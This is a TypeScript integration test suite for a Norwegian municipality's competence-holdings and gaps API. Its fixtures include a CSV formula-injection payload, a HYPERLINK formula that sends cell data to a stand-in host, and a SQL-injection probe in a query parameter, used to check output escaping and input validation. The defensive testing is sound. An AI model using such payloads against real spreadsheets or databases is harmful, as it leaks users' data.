import { Validator } from '@seriousme/openapi-schema-validator';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Express } from 'express';
import { OPERATOR } from '../../src/audit/audit-log.js';
import { addDays, addMonths, osloDate } from '../../src/competence/calendar.js';
import { findCompetence } from '../../src/competence/catalogue.js';
import { applyCatalogueImport } from '../../src/competence/catalogue-import.js';
import { personRequirements } from '../../src/competence/gaps.js';
import { revokeHolding } from '../../src/competence/holdings.js';
import { addRequirement } from '../../src/competence/requirements.js';
import { createPerson } from '../../src/people/people.js';
import { competencePullRouter, GAPS_CSV_COLUMNS, HOLDINGS_CSV_COLUMNS } from '../../src/web/competence/pull-api.js';
import { completionsPullRouter } from '../../src/web/completions/completions-api.js';
import { xapiRouter } from '../../src/web/xapi/router.js';
import { testApp } from '../support/app.js';
import { BACKEND, createTestDatabase, type TestDatabase } from '../support/database.js';
import { pullClients } from '../support/pull-clients.js';

const PUBLIC_URL = 'https://laering.example.no';
/** Today in Oslo: the dates below are counted from it, as the database's clock records holdings today. */
const TODAY = osloDate(new Date());
const day = (days: number) => addDays(TODAY, days);
const month = (months: number) => addMonths(TODAY, months);

interface HoldingJson { id: string; person: { id: string; employeeNumber: string | null; name: string | null; email: string | null }; competence: { code: string; name: string }; source: string; expiresOn: string | null; revoked: { at: string; reason: string } | null; changedAt: string }
interface GapJson { person: { id: string; employeeNumber: string | null; name: string | null }; requirements: { requirement: { id: string; competence: { code: string } }; status: string; validUntil: string | null; graceEnds: string | null; holdingId: string | null }[] }

describe(`pulling holdings and gaps with a municipality's API client (${BACKEND})`, () => {
  let testDb: TestDatabase;
  let app: Express;
  const db = () => testDb.database.db;
  let kongsberg: string;
  let berg: string;
  const people = {} as Record<'kari' | 'ola' | 'per' | 'lise' | 'berit', string>;
  const holdings = {} as Record<'kariFire' | 'kariAid' | 'lise' | 'olaWrong' | 'berit' | 'late' | 'fresh', string>;
  let homeUnit: string;

  const { add: client, get } = pullClients(db, () => app);

  async function employee(tenantId: string, unitId: string, number: string, name: string, email: string | null, job: string, start: string, end: string | null = null) {
    const person = (await createPerson(db(), tenantId, { name, ...(email ? { email } : {}) })).id;
    const row = await db().insertInto('employees').values({ tenant_id: tenantId, person_id: person, employee_number: number }).returning('id').executeTakeFirstOrThrow();
    await db().insertInto('employments').values({ tenant_id: tenantId, employee_id: row.id, org_unit_id: unitId, job_title: job, percentage: 100, start_date: start, end_date: end }).execute();
    return person;
  }

  async function hold(tenantId: string, personId: string, code: string, achievedOn: string, expiresOn: string | null, evidence: Record<string, unknown> = { certificate: 'B-1' }) {
    const competence = (await findCompetence(db(), tenantId, code))!;
    return (await db().insertInto('competence_holdings').values({
      tenant_id: tenantId, person_id: personId, competence_id: competence.id, level: null, source: 'registered', achieved_on: achievedOn, expires_on: expiresOn,
      path_completion_id: null, path_version_id: null, declaration_id: null, evidence: JSON.stringify(evidence), renews_id: null, recorded_by_kind: 'operator', recorded_by_id: 'cli',
    }).returning('id').executeTakeFirstOrThrow()).id;
  }

  async function unit(tenantId: string, code: string, name: string) {
    const row = await db().insertInto('org_units').values({ tenant_id: tenantId, code, name, path: [] }).returning('id').executeTakeFirstOrThrow();
    await db().updateTable('org_units').set({ path: [row.id] }).where('id', '=', row.id).execute();
    return row.id;
  }

  const databaseNow = async () => (await sql<{ at: string }>`select to_char(clock_timestamp() at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as at`.execute(db())).rows[0]!.at;

  beforeAll(async () => {
    testDb = await createTestDatabase();
    kongsberg = (await db().insertInto('tenants').values({ kind: 'municipality', kommunenummer: '3303', name: 'Kongsberg' }).returning('id').executeTakeFirstOrThrow()).id;
    berg = (await db().insertInto('tenants').values({ kind: 'municipality', kommunenummer: '3399', name: 'Berg' }).returning('id').executeTakeFirstOrThrow()).id;
    const region = (await db().insertInto('tenants').values({ kind: 'region', kommunenummer: null, name: 'Kongsbergregionen' }).returning('id').executeTakeFirstOrThrow()).id;
    const catalogue = 'område;kode;kompetanse;gyldighet_måneder\nFelles;brannvern;Brannvern;12\nFelles;forstehjelp;+Førstehjelp;24\n';
    await applyCatalogueImport(db(), kongsberg, catalogue, OPERATOR);
    await applyCatalogueImport(db(), berg, catalogue, OPERATOR);

    homeUnit = await unit(kongsberg, 'HJT', 'Hjemmetjenesten');
    people['kari'] = await employee(kongsberg, homeUnit, '1001', 'Kari Nordmann', 'kari@kongsberg.kommune.no', 'Helsefagarbeider', month(-60));
    people['ola'] = await employee(kongsberg, homeUnit, '1002', '=HYPERLINK("http://evil.example/?"&A1,"Ola")', '@ola@kongsberg.kommune.no', 'Helsefagarbeider', day(-31));
    people['per'] = await employee(kongsberg, homeUnit, '-1003', 'Per Slutta', null, 'Helsefagarbeider', month(-120), day(-17));
    people['lise'] = await employee(kongsberg, homeUnit, '1004', 'Lise Leder', 'lise@kongsberg.kommune.no', 'Leder', month(-96));
    const bergUnit = await unit(berg, 'B1', 'Berg sykehjem');
    people['berit'] = await employee(berg, bergUnit, '1001', 'Berit Berg', 'berit@berg.kommune.no', 'Helsefagarbeider', month(-60));

    const fire = (await findCompetence(db(), kongsberg, 'brannvern'))!.id;
    const aid = (await findCompetence(db(), kongsberg, 'forstehjelp'))!.id;
    await addRequirement(db(), kongsberg, { competence: fire, jobTitle: 'Helsefagarbeider', mandatory: 'mandatory', graceDays: '90' }, OPERATOR);
    await addRequirement(db(), kongsberg, { competence: aid, unitCode: 'HJT', mandatory: 'recommended' }, OPERATOR);

    holdings['kariFire'] = await hold(kongsberg, people['kari'], 'brannvern', month(-10), month(2));
    holdings['kariAid'] = await hold(kongsberg, people['kari'], 'forstehjelp', month(-36), month(-12));
    holdings['lise'] = await hold(kongsberg, people['lise'], 'brannvern', month(-5), month(7), { certificate: '@SUM(1+1)' });
    holdings['olaWrong'] = await hold(kongsberg, people['ola'], 'forstehjelp', day(-30), addMonths(day(-30), 24));
    await revokeHolding(db(), kongsberg, holdings['olaWrong'], OPERATOR, '-registrert på feil person');
    holdings['berit'] = await hold(berg, people['berit'], 'brannvern', month(-5), month(7));

    await client('hr', kongsberg, ['competence/read']);
    await client('lrs-all', kongsberg, ['all', 'statements/read']);
    await client('berg-hr', berg, ['competence/read']);
    await client('region-hr', region, ['competence/read']);
    await client('completions-hr', kongsberg, ['completions/read']);
    const revoked = await client('revoked', kongsberg, ['competence/read']);
    await db().updateTable('xapi_clients').set({ revoked_at: new Date() }).where('id', '=', revoked.id).execute();

    app = testApp(testDb.database, { apiRouters: [competencePullRouter({ db: db(), publicUrl: PUBLIC_URL }), completionsPullRouter({ db: db(), databaseKind: testDb.database.kind, publicUrl: PUBLIC_URL }), xapiRouter({ db: db(), publicUrl: PUBLIC_URL, bodyLimitBytes: 1_000_000 })] });
  });
  afterAll(async () => testDb?.dispose());

  it('asks for credentials, and refuses a client without the scope, a revoked one and a region’s, as problem+json', async () => {
    for (const path of ['/api/competence/holdings', '/api/competence/gaps']) {
      const none = await request(app).get(path);
      expect(none.status).toBe(401);
      expect(none.headers['content-type']).toContain('application/problem+json');
      expect(none.headers['www-authenticate']).toContain('Basic');
      const wrong = await request(app).get(path).set('Authorization', `Basic ${Buffer.from('nokey:nosecret').toString('base64')}`);
      expect(wrong.status).toBe(401);
      expect((await get(path, 'revoked')).status).toBe(401);
      const unscoped = await get(path, 'lrs-all');
      expect(unscoped.status).toBe(403);
      expect(unscoped.headers['content-type']).toContain('application/problem+json');
      expect(unscoped.body).toMatchObject({ type: '/problems/xapi-forbidden', status: 403 });
      expect(unscoped.body.detail).toContain('competence/read');
      const region = await get(path, 'region-hr');
      expect(region.status).toBe(403);
      expect(region.body.detail).toContain('municipality');
    }
    // The scope gives nothing in the LRS.
    const statements = await get('/xapi/statements').set('X-Experience-API-Version', '1.0.3');
    expect(statements.status).toBe(403);
  });

  it('gives the municipality’s holding records with who, what, when and revocations; another municipality’s client sees only its own', async () => {
    const res = await get('/api/competence/holdings');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('application/json');
    expect(res.headers['cache-control']).toBe('no-store');
    const data = res.body.data as HoldingJson[];
    expect(res.body.municipality).toEqual({ kommunenummer: '3303', name: 'Kongsberg' });
    expect(data.map((h) => h.id).sort()).toEqual([holdings['kariFire'], holdings['kariAid'], holdings['lise'], holdings['olaWrong']].sort());
    const kari = data.find((h) => h.id === holdings['kariFire'])!;
    expect(kari).toMatchObject({
      person: { id: people['kari'], employeeNumber: '1001', name: 'Kari Nordmann', email: 'kari@kongsberg.kommune.no' },
      competence: { code: 'brannvern', name: 'Brannvern' }, source: 'registered', achievedOn: month(-10), expiresOn: month(2), revoked: null,
      evidence: { certificate: 'B-1' },
    });
    expect(data.find((h) => h.id === holdings['olaWrong'])!.revoked).toMatchObject({ reason: '-registrert på feil person' });
    expect(res.body.next).toBeNull();
    expect(res.headers['link']).toBeUndefined();
    expect(res.body.nextSince).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
    expect(res.headers['x-next-since']).toBe(res.body.nextSince);

    const bergRes = await get('/api/competence/holdings', 'berg-hr');
    expect(bergRes.status).toBe(200);
    expect((bergRes.body.data as HoldingJson[]).map((h) => h.id)).toEqual([holdings['berit']]);
    expect(bergRes.text).not.toContain(people['kari']);
    expect(bergRes.text).not.toContain('Kongsberg');
    // Berg's gaps name Berit only, never Kongsberg's people.
    const bergGaps = await get('/api/competence/gaps', 'berg-hr');
    expect((bergGaps.body.data as GapJson[]).map((p) => p.person.id)).toEqual([people['berit']]);
  });

  it('pages with a stable cursor and Link rel=next, every record once, the first page’s nextSince on every page', async () => {
    const seen: string[] = [];
    let url: string | null = '/api/competence/holdings?limit=1';
    let nextSince: string | undefined;
    let pages = 0;
    while (url) {
      const res = await get(url.replace(PUBLIC_URL, ''));
      expect(res.status).toBe(200);
      pages += 1;
      seen.push(...(res.body.data as HoldingJson[]).map((h) => h.id));
      nextSince ??= res.body.nextSince as string;
      expect(res.body.nextSince).toBe(nextSince);
      if (res.body.next) {
        expect(res.headers['link']).toBe(`<${res.body.next as string}>; rel="next"`);
        expect(res.body.next).toMatch(/^https:\/\/laering\.example\.no\/api\/competence\/holdings\?limit=1&cursor=/);
        // A record written while paging comes after the pages already read: nothing shifts or repeats.
        if (pages === 1) holdings['late'] = await hold(kongsberg, people['lise'], 'forstehjelp', day(-12), addMonths(day(-12), 24));
      }
      url = res.body.next as string | null;
    }
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen.sort()).toEqual([holdings['kariFire'], holdings['kariAid'], holdings['lise'], holdings['olaWrong'], holdings['late']].sort());
    expect(pages).toBe(5);
  });

  it('since= gives what was recorded or revoked at or after it', async () => {
    const before = await databaseNow();
    const fresh = await hold(kongsberg, people['kari'], 'forstehjelp', day(-2), addMonths(day(-2), 24));
    await revokeHolding(db(), kongsberg, holdings['lise'], OPERATOR, 'feil sertifikat');
    const res = await get(`/api/competence/holdings?since=${encodeURIComponent(before)}`);
    expect(res.status).toBe(200);
    const data = res.body.data as HoldingJson[];
    expect(data.map((h) => h.id).sort()).toEqual([fresh, holdings['lise']].sort());
    expect(data.find((h) => h.id === holdings['lise'])!.revoked).toMatchObject({ reason: 'feil sertifikat' });
    // Ordered by when they changed (then by id).
    const order = data.map((h) => `${h.changedAt} ${h.id}`);
    expect(order).toEqual([...order].sort());
    expect(data.find((h) => h.id === holdings['lise'])!.changedAt).toBe(data.find((h) => h.id === holdings['lise'])!.revoked!.at);
    expect(res.body.since).toBe(before);
    // An offset other than Z means the same moment.
    const later = await get(`/api/competence/holdings?since=${encodeURIComponent('2999-01-01T01:00:00+01:00')}`);
    expect(later.body.data).toEqual([]);
    // The nextSince of a pull lies behind it: rows that were being written then come again.
    expect(res.body.nextSince < (await databaseNow())).toBe(true);
    holdings['fresh'] = fresh;
  });

  it('refuses bad parameters with 400 problem+json naming the parameter', async () => {
    const first = await get('/api/competence/holdings?limit=1');
    const holdingsCursor = new URL(first.body.next as string).searchParams.get('cursor')!;
    const gapsFirst = await get('/api/competence/gaps?limit=1');
    const gapsCursor = new URL(gapsFirst.body.next as string).searchParams.get('cursor')!;
    const cases: [string, string][] = [
      ['/api/competence/holdings?since=2027-03-01', 'since'],
      ['/api/competence/holdings?since=yesterday', 'since'],
      ['/api/competence/holdings?since=2027-02-30T00:00:00Z', 'since'],
      ['/api/competence/holdings?since=2027-03-01T25:00:00Z', 'since'],
      ['/api/competence/holdings?since=2027-03-01T08:00:00', 'since'],
      ["/api/competence/holdings?since=2027-03-01T08:00:00Z'%20or%201=1--", 'since'],
      ['/api/competence/holdings?limit=0', 'limit'],
      ['/api/competence/holdings?limit=5001', 'limit'],
      ['/api/competence/holdings?limit=ten', 'limit'],
      ['/api/competence/holdings?limit=-1', 'limit'],
      ['/api/competence/holdings?cursor=nonsense!', 'cursor'],
      [`/api/competence/holdings?cursor=${Buffer.from('{"kind":"holdings"}').toString('base64url')}`, 'cursor'],
      [`/api/competence/holdings?cursor=${Buffer.from(JSON.stringify({ kind: 'holdings', query: {}, nextSince: '2027-01-01T00:00:00Z', after: { changedAt: "2027-01-01'", id: 'x' } })).toString('base64url')}`, 'cursor'],
      [`/api/competence/holdings?cursor=${gapsCursor}`, 'cursor'],
      [`/api/competence/holdings?limit=1&since=2020-01-01T00:00:00Z&cursor=${holdingsCursor}`, 'cursor'],
      ['/api/competence/holdings?format=xml', 'format'],
      ['/api/competence/holdings?tenant=3399', 'tenant'],
      ['/api/competence/holdings?limit=1&limit=2', 'limit'],
      ['/api/competence/gaps?on=2027-13-01', 'on'],
      ['/api/competence/gaps?on=01.06.2027', 'on'],
      ['/api/competence/gaps?expiringDays=-1', 'expiringDays'],
      ['/api/competence/gaps?expiringDays=366', 'expiringDays'],
      ['/api/competence/gaps?limit=1001', 'limit'],
      [`/api/competence/gaps?cursor=${holdingsCursor}`, 'cursor'],
      [`/api/competence/gaps?limit=1&on=${day(-1)}&cursor=${gapsCursor}`, 'cursor'],
      ['/api/competence/gaps?since=2027-06-01', 'since'],
    ];
    for (const [path, parameter] of cases) {
      const res = await get(path);
      expect(`${path} ${res.status}`).toBe(`${path} 400`);
      expect(res.headers['content-type']).toContain('application/problem+json');
      expect(res.body).toMatchObject({ type: '/problems/validation-failed', status: 400, parameter });
    }
  });

  it('answers CSV by Accept or format=csv, with cells that would start a formula made text', async () => {
    const byAccept = await get('/api/competence/holdings').set('Accept', 'text/csv');
    const byFormat = await get('/api/competence/holdings?format=csv');
    for (const res of [byAccept, byFormat]) {
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toContain('text/csv');
      expect(res.headers['content-disposition']).toContain('kompetanse-3303.csv');
    }
    expect(byAccept.text).toBe(byFormat.text);
    const rows = parse(byFormat.text, { delimiter: ';', columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([...HOLDINGS_CSV_COLUMNS]);
    const ola = rows.find((r) => r['holding_id'] === holdings['olaWrong'])!;
    expect(ola['name']).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Ola")`);
    expect(ola['email']).toBe("'@ola@kongsberg.kommune.no");
    expect(ola['competence_name']).toBe("'+Førstehjelp");
    expect(ola['revocation_reason']).toBe("'-registrert på feil person");
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const kari = rows.find((r) => r['holding_id'] === holdings['kariFire'])!;
    expect(kari).toMatchObject({ person_id: people['kari'], employee_number: '1001', competence_code: 'brannvern', achieved_on: month(-10), expires_on: month(2), revoked_at: '', source: 'registered' });

    const gaps = await get('/api/competence/gaps?format=csv');
    const gapRows = parse(gaps.text, { delimiter: ';', columns: true }) as Record<string, string>[];
    expect(Object.keys(gapRows[0]!)).toEqual([...GAPS_CSV_COLUMNS]);
    for (const row of gapRows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(gapRows.find((r) => r['person_id'] === people['ola'])!['name']).toMatch(/^'=HYPERLINK/);
  });

  it('gives where each employee stands on a day, the same as the person’s own requirements, for employees in force only', async () => {
    const res = await get(`/api/competence/gaps?on=${TODAY}`);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ on: TODAY, since: null, expiringDays: 90, next: null, municipality: { kommunenummer: '3303' } });
    const data = res.body.data as GapJson[];
    // Per's employment ended 17 days ago: not in force on the day. Lise is a manager: only the unit's first aid applies.
    expect(data.map((p) => p.person.id).sort()).toEqual([people['kari'], people['ola'], people['lise']].sort());
    const statuses = (id: string) => Object.fromEntries(data.find((p) => p.person.id === id)!.requirements.map((r) => [r.requirement.competence.code, r.status]));
    expect(statuses(people['kari'])).toEqual({ brannvern: 'expiring', forstehjelp: 'met' });
    expect(statuses(people['ola'])).toEqual({ brannvern: 'grace', forstehjelp: 'missing' });
    expect(statuses(people['lise'])).toEqual({ forstehjelp: 'met' });
    const kariFire = data.find((p) => p.person.id === people['kari'])!.requirements.find((r) => r.requirement.competence.code === 'brannvern')!;
    expect(kariFire).toMatchObject({ validUntil: month(2), holdingId: holdings['kariFire'], graceEnds: null });
    expect(data.find((p) => p.person.id === people['ola'])!.requirements.find((r) => r.status === 'grace')!.graceEnds).toBe(day(58));
    expect(data.find((p) => p.person.id === people['ola'])!.person.employeeNumber).toBe('1002');
    // The batch rows are personRequirements' rows.
    for (const person of data) {
      const own = await personRequirements(db(), kongsberg, person.person.id, TODAY);
      expect(person.requirements.map((r) => [r.requirement.id, r.status, r.validUntil, r.graceEnds, r.holdingId]).sort())
        .toEqual(own.map((r) => [r.requirement.id, r.status, r.validUntil, r.graceEnds, r.holding?.id ?? null]).sort());
    }
    // Another day, another answer: Kari's fire safety expired, and Per (in force then) is back.
    const later = await get(`/api/competence/gaps?on=${month(2)}&expiringDays=0`);
    const laterData = later.body.data as GapJson[];
    expect(laterData.find((p) => p.person.id === people['kari'])!.requirements.find((r) => r.requirement.competence.code === 'brannvern')!.status).toBe('expired');
    const earlier = await get(`/api/competence/gaps?on=${day(-20)}`);
    expect((earlier.body.data as GapJson[]).some((p) => p.person.id === people['per'])).toBe(true);
    // Paging by person: every person once.
    const ids: string[] = [];
    let url: string | null = `/api/competence/gaps?on=${TODAY}&limit=2`;
    while (url) {
      const page = await get(url.replace(PUBLIC_URL, ''));
      ids.push(...(page.body.data as GapJson[]).map((p) => p.person.id));
      url = page.body.next as string | null;
    }
    expect(ids.sort()).toEqual(data.map((p) => p.person.id).sort());
  });

  it('gaps since= gives the employees whose rows may have changed, with all their rows, and those no requirement applies to any more', async () => {
    // Pulled a moment ago; since then nothing was recorded and no day passed any date that decides a status
    // (Per's employment ended 17 days ago, Ola's grace runs 58 more days, Kari's fire safety came within the window weeks ago).
    const since = await databaseNow();
    const quiet = await get(`/api/competence/gaps?on=${TODAY}&since=${encodeURIComponent(since)}`);
    expect(quiet.status).toBe(200);
    // Nothing recorded since, and no date edge between yesterday and today for anyone.
    expect((quiet.body.data as GapJson[]).map((p) => p.person.id)).toEqual([]);

    // The day after Ola's grace ended, Ola is listed: missing both.
    const graceEnded = await get(`/api/competence/gaps?on=${day(59)}&since=${encodeURIComponent(since)}`);
    const graced = graceEnded.body.data as GapJson[];
    expect(graced.map((p) => p.person.id)).toContain(people['ola']);
    expect(graced.find((p) => p.person.id === people['ola'])!.requirements.map((r) => r.status).sort()).toEqual(['missing', 'missing']);

    // A new holding: Ola is listed with every row of theirs.
    const olaFire = await hold(kongsberg, people['ola'], 'brannvern', day(-3), addMonths(day(-3), 12));
    const changed = await get(`/api/competence/gaps?on=${TODAY}&since=${encodeURIComponent(since)}`);
    const rows = changed.body.data as GapJson[];
    expect(rows.map((p) => p.person.id)).toEqual([people['ola']]);
    expect(rows[0]!.requirements.map((r) => [r.requirement.competence.code, r.status, r.holdingId]).sort()).toEqual([['brannvern', 'met', olaFire], ['forstehjelp', 'missing', null]]);

    // Per's employment ended: a pull since before that lists Per with no rows (in CSV: one line with status none).
    const perSince = `${day(-20)}T10:00:00Z`;
    const ended = await get(`/api/competence/gaps?on=${TODAY}&since=${perSince}`);
    const per = (ended.body.data as GapJson[]).find((p) => p.person.id === people['per']);
    expect(per).toMatchObject({ person: { employeeNumber: '-1003' }, requirements: [] });
    const csv = parse((await get(`/api/competence/gaps?on=${TODAY}&since=${perSince}&format=csv`)).text, { delimiter: ';', columns: true }) as Record<string, string>[];
    expect(csv.filter((r) => r['person_id'] === people['per'])).toEqual([expect.objectContaining({ status: 'none', requirement_id: '', employee_number: "'-1003" })]);

    // A new requirement may change anyone's rows: everyone with an employee record is listed.
    const hms = await applyCatalogueImport(db(), kongsberg, 'område;kode;kompetanse\nFelles;hms;HMS\n', OPERATOR).then(() => findCompetence(db(), kongsberg, 'hms'));
    await addRequirement(db(), kongsberg, { competence: hms!.id, jobTitle: 'Leder', mandatory: 'mandatory' }, OPERATOR);
    const everyone = await get(`/api/competence/gaps?on=${TODAY}&since=${encodeURIComponent(since)}`);
    expect((everyone.body.data as GapJson[]).map((p) => p.person.id).sort()).toEqual([people['kari'], people['ola'], people['per'], people['lise']].sort());
  });

  it('records one audit event per pull (not per row), naming the client and counting the rows', async () => {
    const before = await db().selectFrom('audit_events').select('id').where('action', 'in', ['competence.holdings.pulled', 'competence.gaps.pulled']).execute();
    await get('/api/competence/holdings');
    await get(`/api/competence/gaps?on=${TODAY}`);
    await get('/api/competence/holdings', 'lrs-all');
    const events = await db().selectFrom('audit_events').select(['id', 'action', 'actor_kind', 'actor_id', 'tenant_id', 'subject_person_id', 'details'])
      .where('action', 'in', ['competence.holdings.pulled', 'competence.gaps.pulled']).orderBy('id').execute();
    const fresh = events.filter((e) => !before.some((b) => b.id === e.id));
    expect(fresh.map((e) => e.action)).toEqual(['competence.holdings.pulled', 'competence.gaps.pulled']);
    const hrKey = (await db().selectFrom('xapi_clients').select('key').where('name', '=', 'hr').executeTakeFirstOrThrow()).key;
    expect(fresh[0]).toMatchObject({ actor_kind: 'api-client', actor_id: hrKey, tenant_id: kongsberg, subject_person_id: null, details: { rows: 7, since: null, format: 'json' } });
    expect(fresh[1]).toMatchObject({ details: { people: 3, on: TODAY } });
    expect(JSON.stringify(fresh)).not.toContain('Kari');
  });

  it('describes the pulls in an OpenAPI 3.1 document that is valid, and every route it names answers', async () => {
    const res = await request(app).get('/api/openapi.json');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('application/json');
    const document = res.body as { openapi: string; servers: { url: string }[]; paths: Record<string, Record<string, { security?: unknown[] }>>; components: { securitySchemes: Record<string, unknown> } };
    expect(document.openapi).toBe('3.1.0');
    expect(document.servers).toEqual([{ url: PUBLIC_URL }]);
    expect(document.components.securitySchemes).toEqual({ apiClient: expect.objectContaining({ type: 'http', scheme: 'basic' }) });
    const validator = new Validator();
    const result = await validator.validate(document as unknown as Parameters<Validator['validate']>[0]);
    expect(result).toEqual({ valid: true });
    expect(validator.version).toBe('3.1');
    // A broken document is refused by the same check (it can fail).
    expect((await new Validator().validate({ ...document, paths: { '/x': { get: { responses: { 200: {} } } } } } as unknown as Parameters<Validator['validate']>[0])).valid).toBe(false);
    expect(Object.keys(document.paths).sort()).toEqual(['/api/competence/gaps', '/api/competence/holdings', '/api/completions', '/api/openapi.json', '/api/verify', '/api/verify/{code}']);
    // Certificate verification (public) is answered by the certificates' router: test/certificates/ asks it.
    expect(Object.keys(document.paths['/api/verify']!)).toEqual(['post']);
    expect(document.paths['/api/verify/{code}']!['get']!.security).toEqual([]);
    for (const [path, operations] of Object.entries(document.paths)) {
      if (path.startsWith('/api/verify')) continue;
      for (const [method, operation] of Object.entries(operations)) {
        expect(method).toBe('get');
        const answer = await (operation.security?.length === 0 ? request(app).get(path) : get(path, path === '/api/completions' ? 'completions-hr' : 'hr'));
        expect(`${path} ${answer.status}`).toBe(`${path} 200`);
        // Without credentials a secured route asks for them.
        if (operation.security?.length !== 0) expect((await request(app).get(path)).status).toBe(401);
      }
    }
  });
});
